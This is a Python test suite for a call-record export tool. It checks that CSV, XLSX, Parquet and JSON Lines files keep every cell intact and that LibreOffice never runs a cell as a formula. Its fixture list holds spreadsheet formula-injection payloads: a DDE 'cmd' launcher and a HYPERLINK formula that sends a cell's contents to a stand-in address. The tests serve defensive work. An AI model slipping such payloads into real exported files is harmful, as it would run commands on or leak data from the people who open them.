"""Each format's file, opened with other people's readers: no cell is lost, changed or run."""

import csv
import gzip
import io
import re
import subprocess
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import duckdb
import orjson
import pyarrow.parquet as pq
import pytest

from cdrd import formats
from cdrd.columns import RECORDS, Layout, lay_out
from cdrd.formats import FORMATS, compressed, split_ending

NAMES = ("seq", "caller", "callee", "duration", "raw")
LAYOUT = lay_out(RECORDS["calls"], NAMES)
EVIL = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    " =1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "1234567890123456",
    "9223372036854775807",
    "00123",
    "+4930123456",
    "1E5",
    "1/2",
    "TRUE",
    "#REF!",
    "2017-09-14T01:30:15Z",
    "https://example.org/",
    "Müller & Söhne <ß>",
    "Zoë 😀",
    'a "quoted", name;',
    "two\nlines",
    " blanks ",
    "<r><t>markup</t></r>",
    "_x0041_",
    "ends with a backslash\\",
    "''",
    "x" * 32_767,
)
ROWS = [
    (seq, text, None if seq % 2 else "", None if seq % 3 else seq, "{}")
    for seq, text in enumerate(EVIL, start=1)
]


def made(form: str, tmp_path: Path, rows: Sequence[Any], layout: Layout = LAYOUT) -> Path:
    """A file of rows, a page of them at a time."""
    path = tmp_path / f"made.{form}"
    with path.open("wb") as file:
        writer = FORMATS[form](layout, file, tmp_path)
        for start in range(0, len(rows), 10):
            writer.write(rows[start : start + 10])
        writer.close()
    return path


def csv_rows(rows: Sequence[Any]) -> list[tuple[bytes, ...]]:
    """Rows as SQLite renders them for CSV."""
    shown = ([cell if cell is not None else "" for cell in row[:-1]] for row in rows)
    return [(orjson.dumps(cells), row[-1].encode()) for cells, row in zip(shown, rows, strict=True)]


def as_text(rows: Sequence[Any]) -> list[list[str]]:
    return [["" if cell is None else str(cell) for cell in row] for row in rows]


def convert(path: Path, form: str, *options: str) -> Path:
    """Open a file in LibreOffice and save it in another format."""
    profile, converted = path.parent / "profile", path.parent / "converted"
    command = ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", *options]
    command += ["--convert-to", form, "--outdir", str(converted), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=100)
    return converted / f"{path.stem}.{form.partition(':')[0]}"


def libreoffice(path: Path, *options: str) -> list[list[str]]:
    """What LibreOffice shows of a file's first sheet, formulas as formulas."""
    shown = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,true"
    with convert(path, shown, *options).open(newline="") as file:
        return list(csv.reader(file))


def test_libreoffice_shows_each_cell_of_xlsx_as_it_is(tmp_path: Path) -> None:
    path = made("xlsx", tmp_path, ROWS)
    assert libreoffice(path) == [list(NAMES), *as_text(ROWS)]


def test_libreoffice_runs_no_cell_of_csv_and_with_text_as_text_changes_none(
    tmp_path: Path,
) -> None:
    path = made("csv", tmp_path, csv_rows(ROWS))
    text_as_text = "--infilter=CSV:44,34,76,1,,0,true,false,true"
    shown = libreoffice(path, text_as_text)[1:]
    for row, cells in zip(as_text(ROWS), shown, strict=True):
        guarded = re.match(r"[=@\t]|[-+][^0-9]|-2\+", row[1])
        assert cells == [row[0], f"'{row[1]}" if guarded else row[1], *row[2:]]


def test_libreoffice_runs_no_cell_of_csv_as_it_opens_one_by_itself(tmp_path: Path) -> None:
    opened = convert(made("csv", tmp_path, csv_rows(ROWS)), "fods").read_text()
    assert "blanks" in opened
    assert "table:formula" not in opened


def test_libreoffice_runs_no_cell_of_csv_where_it_goes_by_semicolons(tmp_path: Path) -> None:
    texts = ("x;=1+1;", "x\n=1+1\n", "\r=1+1\r", "x;+1+1;")
    rows = [(seq, text, *ROWS[0][2:-1], f'{{"a":"{text}"}}') for seq, text in enumerate(texts)]
    by_semicolons = "--infilter=CSV:59,34,76,1,,0,false,true,false,false,false,-1,true"
    opened = convert(made("csv", tmp_path, csv_rows(rows)), "fods", by_semicolons).read_text()
    assert "&apos;=1+1" in opened
    assert "table:formula" not in opened


def test_python_reads_csv_as_libreoffice_does(tmp_path: Path) -> None:
    path = made("csv", tmp_path, csv_rows(ROWS))
    with path.open(newline="", encoding="utf-8") as file:
        header, *rows = csv.reader(file, strict=True)
    assert header == list(NAMES)
    assert [row[1].removeprefix("'") for row in rows] == [text.removeprefix("'") for text in EVIL]


def test_duckdb_reads_csv_json_lines_and_parquet_alike(tmp_path: Path) -> None:
    database = duckdb.connect()
    from_csv, from_json, from_parquet = (
        made(form, tmp_path, csv_rows(ROWS) if form == "csv" else ROWS)
        for form in ("csv", "jsonl", "parquet")
    )
    read = "SELECT seq, caller, callee, duration, raw FROM"
    assert database.execute(f"{read} '{from_parquet}'").fetchall() == ROWS
    integers = {"seq", "duration"}
    columns = {name: "BIGINT" if name in integers else "VARCHAR" for name in NAMES}
    lines = f"read_json('{from_json}', format='nd', columns={columns})"
    assert database.execute(f"{read} {lines}").fetchall() == ROWS
    found = database.execute(
        f"SELECT seq, duration, caller FROM read_csv('{from_csv}', columns={columns}, header=true)"
    ).fetchall()
    assert [row[:2] for row in found] == [(row[0], row[3]) for row in ROWS]
    assert [row[2].removeprefix("'") for row in found] == [text.removeprefix("'") for text in EVIL]


def test_parquet_keeps_integers_and_text_to_the_byte(tmp_path: Path) -> None:
    table = pq.read_table(made("parquet", tmp_path, ROWS))
    assert [tuple(row.values()) for row in table.to_pylist()] == ROWS
    assert {str(field.type) for field in table.schema} == {"int64", "string"}
    assert made("parquet", tmp_path, []).stat().st_size > 0
    assert pq.read_table(tmp_path / "made.parquet").num_rows == 0


def test_json_lines_are_the_rows_as_objects(tmp_path: Path) -> None:
    lines = made("jsonl", tmp_path, ROWS).read_bytes().splitlines()
    assert [tuple(orjson.loads(line).values()) for line in lines] == ROWS
    assert [list(orjson.loads(line)) for line in lines] == [list(NAMES)] * len(ROWS)


def sheets(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as book:
        names = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        return [book.read(name).decode() for name in sorted(names)]


def test_xlsx_has_text_as_text_seconds_as_numbers_and_no_formula(tmp_path: Path) -> None:
    [sheet] = sheets(made("xlsx", tmp_path, [(7, "00123", "=1+1", 29, str(10**15))]))
    assert '<c r="A2"><v>7</v></c>' in sheet
    assert '<c r="D2"><v>29</v></c>' in sheet
    assert re.search(r'<c r="B2" s="\d+" t="inlineStr"><is><t>00123</t>', sheet)
    assert "<f>" not in sheet
    assert 'state="frozen"' in sheet
    assert '<autoFilter ref="A1:E2"/>' in sheet


def test_an_integer_of_more_digits_than_a_spreadsheet_shows_is_text(tmp_path: Path) -> None:
    [sheet] = sheets(made("xlsx", tmp_path, [(10**15, "", None, 10**15 - 1, "{}")]))
    assert "<t>1000000000000000</t>" in sheet
    assert "<v>999999999999999</v>" in sheet


@pytest.mark.parametrize("character", ["\ufffe", "\uffff"])
def test_what_xml_cannot_have_does_not_break_the_workbook(tmp_path: Path, character: str) -> None:
    [sheet] = sheets(made("xlsx", tmp_path, [(1, f"a{character}\x01b", None, 1, "{}")]))
    assert "<t>a\N{REPLACEMENT CHARACTER}_x0001_b</t>" in sheet


def test_a_full_sheet_is_followed_by_another(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(formats, "SHEET_ROWS", 11)  # the real one takes a minute
    rows = [(seq, "1000", None, 1, "{}") for seq in range(25)]
    made_sheets = sheets(made("xlsx", tmp_path, rows))
    for sheet, last in zip(made_sheets, (11, 11, 6), strict=True):
        assert "<t>caller</t>" in sheet
        assert f'<autoFilter ref="A1:E{last}"/>' in sheet
    numbers = [number for sheet in made_sheets for number in re.findall(r'"A\d+"><v>(\d+)', sheet)]
    assert numbers == [str(seq) for seq in range(25)]


def test_the_same_rows_compress_to_the_same_bytes() -> None:
    def packed() -> bytes:
        file = io.BytesIO()
        with compressed(file) as target:
            target.write(b"a line\n" * 100)
        return file.getvalue()

    assert packed() == packed()
    assert gzip.decompress(packed()) == b"a line\n" * 100


@pytest.mark.parametrize(
    ("name", "ending", "is_compressed"),
    [
        ("calls.csv", "csv", False),
        ("CALLS.CSV.GZ", "csv", True),
        ("there.csv/calls", "", False),
        ("calls.gz", "", True),
        ("calls.csv.bak", "bak", False),
        ("-", "", False),
    ],
)
def test_the_ending_is_told_with_and_without_gz(
    name: str, ending: str, *, is_compressed: bool
) -> None:
    assert split_ending(name) == (ending, is_compressed)
